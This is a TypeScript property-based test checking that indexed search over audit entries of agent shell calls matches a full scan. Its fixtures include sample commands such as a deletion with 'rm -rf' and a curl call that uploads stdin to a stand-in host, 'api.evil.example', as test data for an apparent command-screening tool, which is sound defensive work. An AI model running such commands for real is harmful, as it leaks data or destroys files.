import fc from 'fast-check';
import { expect, it } from 'vitest';
import { callEntry, storeOf } from '../../../tests/support/audit-entries.ts';
import { searchEntries } from './search-entries.ts';
import { compileQuery, type SearchQuery } from './search-query.ts';
import { SEARCH_COLUMNS, searchTexts } from './search-text.ts';

const ENTRIES = [
  callEntry('git push --force origin main', {
    verdict: 'ask',
    rules: ['Ask before force pushes'],
    agent: 'codex',
  }),
  callEntry("sed -i 's/a.b/c/' src/a.b.ts && rm -rf ./.cache", {
    fields: {
      'fs.write': ['/home/dev/app/src/a.b.ts'],
      'fs.delete': ['/home/dev/app/.cache'],
      'exec.name': ['sed', 'rm'],
    },
    verdict: 'deny',
    rules: ['Deny (all) "rm"'],
  }),
  callEntry('curl -d @- https://api.evil.example:8443/x?q=1', {
    fields: { 'net.host': ['api.evil.example'], 'net.upload': ['api.evil.example'], 'exec.name': ['curl'] },
    session: 'bbbb-2222',
  }),
  callEntry('echo "部署 déjà_vu" > über.txt', {
    fields: { 'fs.write': ['/home/dev/app/über.txt'] },
    mode: 'monitor',
  }),
];

it('gives by the index all that a look at every entry gives', () => {
  const { reader } = storeOf(ENTRIES);
  const texts = ENTRIES.map(searchTexts);
  const part = fc.record({
    of: fc.nat(ENTRIES.length - 1),
    column: fc.constantFrom(...SEARCH_COLUMNS),
    from: fc.nat(40),
    length: fc.integer({ min: 1, max: 20 }),
    star: fc.option(fc.nat(20)),
  });
  const patternOf = ({
    of,
    column,
    from,
    length,
    star,
  }: typeof part extends fc.Arbitrary<infer P> ? P : never): string => {
    const text = texts[of]?.[column].join(' ') ?? '';
    const cut = text.slice(from % (text.length + 1)).slice(0, length);
    return star === null ? cut : `${cut.slice(0, star)}*${cut.slice(star + 1)}`;
  };
  let found = 0;
  fc.assert(
    fc.property(part, fc.boolean(), fc.boolean(), (one, isText, isField) => {
      const pattern = patternOf(one);
      const query: SearchQuery = isText
        ? { texts: [pattern] }
        : isField
          ? { fields: [{ name: 'fs.write', pattern }] }
          : { columns: { [one.column]: [pattern] } };
      const { isWanted } = compileQuery(query);
      const all = ENTRIES.flatMap((entry, index) => (isWanted(entry) ? [index + 1] : []));
      const byIndex = [...searchEntries(reader, query, { order: 'oldest' })].map(({ seq }) => seq);
      found += all.length;
      expect(byIndex).toEqual(all);
    }),
    { numRuns: 3_000 },
  );
  // The property says nothing about patterns that match nothing.
  expect(found).toBeGreaterThan(1_000);
});
